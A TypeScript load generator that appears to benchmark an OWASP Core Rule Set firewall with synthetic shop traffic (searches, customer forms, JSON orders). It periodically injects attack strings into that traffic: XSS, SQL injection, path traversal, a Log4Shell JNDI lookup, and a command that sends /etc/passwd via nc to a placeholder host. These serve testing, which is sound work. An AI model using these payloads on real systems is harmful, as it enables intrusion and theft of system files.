import { browser, WORDS } from './browser.ts';
import { hex, list, pick, type Random } from './random.ts';
import type { LoadRequest } from './requests.ts';

export const CRS_LOADS = ['crs-get', 'everything', 'attack-mix', 'crs-form', 'crs-json-1k', 'crs-json-10k'] as const;
export type CrsLoad = (typeof CRS_LOADS)[number];

/** One request in so many is an attack; the first comes early, so that short runs have one. */
const ATTACK_EVERY = 100;
const ATTACK_EVERY_IN_MIX = 10;
const ATTACK_FIRST = 7;

/** Each is over CRS's threshold by itself at paranoia level 1. */
const ATTACKS = [
  '<script>alert(document.cookie)</script>',
  "1' OR '1'='1' UNION SELECT login, secret FROM accounts -- ",
  '; cat /etc/passwd | nc 192.0.2.7 4444',
  '../../../../../../etc/passwd',
  '$' + '{jndi:ldap://192.0.2.7:1389/a}',
  '"><img src=x onerror=alert(1)>',
] as const;

const FIRST_NAMES = ['Ada', 'Berta', 'Carlo', 'Dilan', 'Emre', 'Femke', 'Greta', 'Hanno', 'Ines', 'Jonas', 'Keiko'];
const LAST_NAMES = ['Lindqvist', 'Moreau', 'Novak', 'Okafor', 'Petersen', 'Quispe', 'Rossi', 'Sato', 'Tanaka', 'Weber'];
const STREETS = ['Mill Lane', 'Harbour Road', 'Station Street', 'Church Hill', 'Castle Row', 'North Quay'];
const CITIES = ['Bergen', 'Lyon', 'Porto', 'Leipzig', 'Utrecht', 'Graz', 'Aarhus', 'Bilbao'];
const COLOURS = ['red', 'green', 'blue', 'black', 'grey', 'oak', 'brass'];
/** None of them is a word of SQL: three of those in a row may look like a statement. */
const PROSE = [
  'please',
  'bring',
  'the',
  'parcel',
  'with',
  'our',
  'neighbour',
  'on',
  'second',
  'storey',
  'we',
  'will',
  'be',
  'home',
  'after',
  'six',
  'thanks',
  'for',
  'your',
  'help',
  'it',
  'arrived',
  'quickly',
  'lovely',
  'looks',
  'great',
  'near',
  'kitchen',
] as const;

export function isCrsLoad(load: string): load is CrsLoad {
  return CRS_LOADS.some((one) => one === load);
}

/**
 * What a shop's visitors send, and now and then somebody else.
 *
 * @param index  Place in the run: every hundredth is an attack, with `attack-mix` every tenth.
 * @returns  `crs-get`, `everything` and `attack-mix`: 13 header fields with Host and Connection, three cookies, five
 *           parameters. `crs-form`: eight fields. `crs-json-1k` and `-10k`: an order of about so many bytes.
 */
export function crsRequest(load: CrsLoad, index: number, random: Random): LoadRequest {
  const isAttack = index % (load === 'attack-mix' ? ATTACK_EVERY_IN_MIX : ATTACK_EVERY) === ATTACK_FIRST;
  const attack = isAttack ? pick(ATTACKS, random) : null;
  const headers = { Host: 'shop.example', ...browser(random), DNT: '1', 'X-Requested-With': 'XMLHttpRequest' };
  if (load === 'crs-get' || load === 'everything' || load === 'attack-mix')
    return { method: 'GET', path: search(attack, random), headers, isAttack };
  const isForm = load === 'crs-form';
  const type = isForm ? 'application/x-www-form-urlencoded' : 'application/json';
  const text = isForm ? form(attack, random) : jsonOrder(load === 'crs-json-1k' ? 1_000 : 10_000, attack, random);
  return {
    method: 'POST',
    path: `/api/v1/${isForm ? 'customers' : 'orders'}/${random(1_000_000)}`,
    headers: { ...headers, Origin: 'https://shop.example', 'Content-Type': type },
    body: Buffer.from(text),
    isAttack,
  };
}

function search(attack: string | null, random: Random): string {
  const query = new URLSearchParams({
    q: attack ?? prose(3, random),
    category: pick(WORDS, random),
    colour: pick(COLOURS, random),
    page: String(random(500)),
    session: hex(random),
  });
  return `/shop/${pick(WORDS, random)}/${random(1_000_000)}?${query}`;
}

function form(attack: string | null, random: Random): string {
  const [first, last] = [pick(FIRST_NAMES, random), pick(LAST_NAMES, random)];
  return new URLSearchParams({
    firstName: first,
    lastName: last,
    email: `${first}.${last}${random(1_000)}@mail.example`.toLowerCase(),
    street: `${pick(STREETS, random)} ${1 + random(200)}`,
    city: pick(CITIES, random),
    postcode: String(10_000 + random(90_000)),
    comment: attack ?? prose(12, random),
    token: hex(random) + hex(random),
  }).toString();
}

/** An order. Lines are added until it is long enough. The attack, if there is one, is the note of any of them. */
export function jsonOrder(bytes: number, attack: string | null, random: Random): string {
  const head = {
    orderId: hex(random),
    customer: { name: `${pick(FIRST_NAMES, random)} ${pick(LAST_NAMES, random)}`, city: pick(CITIES, random) },
    express: random(2) === 1,
    total: random(100_000) / 100,
  };
  const lines = [orderLine(random)];
  let length = JSON.stringify({ ...head, lines }).length;
  while (length < bytes) {
    const line = orderLine(random);
    lines.push(line);
    length += JSON.stringify(line).length + 1;
  }
  if (attack !== null) {
    const place = random(lines.length);
    lines[place] = { ...orderLine(random), note: attack };
  }
  return JSON.stringify({ ...head, lines });
}

function orderLine(random: Random) {
  return {
    sku: `${pick(WORDS, random)}-${random(100_000)}`,
    quantity: 1 + random(9),
    price: random(10_000) / 100,
    options: { colour: pick(COLOURS, random), gift: random(2) === 1 },
    note: prose(6, random),
  };
}

function prose(words: number, random: Random): string {
  return list(words, () => pick(PROSE, random)).join(' ');
}
